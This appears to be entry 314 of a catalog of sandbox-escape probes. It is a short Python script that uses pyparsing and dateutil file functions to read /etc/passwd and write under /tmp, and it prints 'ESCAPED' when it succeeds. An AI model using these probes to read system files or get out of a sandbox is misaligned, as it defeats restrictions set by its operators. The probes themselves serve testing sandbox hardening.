# escape: 314
# packages: pyparsing, dateutil
# technique: parse_file, diagrams, tzfile and zic
# family: dfile
# goal: read-file
# first-seen: pyparsing.parse_file, create_diagram; dateutil.tz.tzfile, zoneinfo.rebuild
import pyparsing as pp, dateutil.tz, dateutil.zoneinfo
def go(f):
    try: text = str(f())
    except BaseException: return
    if "root:" in text: print("ESCAPED:" + text[:40])
go(lambda: pp.Regex(r"(?s).*").parse_file("/etc/passwd"))
go(lambda: pp.Regex(r"(?s).*").parseFile("/etc/passwd"))
go(lambda: pp.Word("a").create_diagram("/tmp/escape-314"))
go(lambda: pp.Word("a").run_tests("a", file=open("/tmp/escape-314", "w")))
go(lambda: dateutil.tz.tzfile("/etc/passwd"))
go(lambda: "root:" if dateutil.tz.tzfile("/etc/localtime") else "")
go(lambda: "root:" if dateutil.tz.gettz("/etc/localtime") else "")
go(lambda: dateutil.tz.tzical("/etc/passwd"))
def rebuild():
    from dateutil.zoneinfo import rebuild
    rebuild.rebuild("/etc/passwd", "/tmp/escape-314")
go(rebuild)
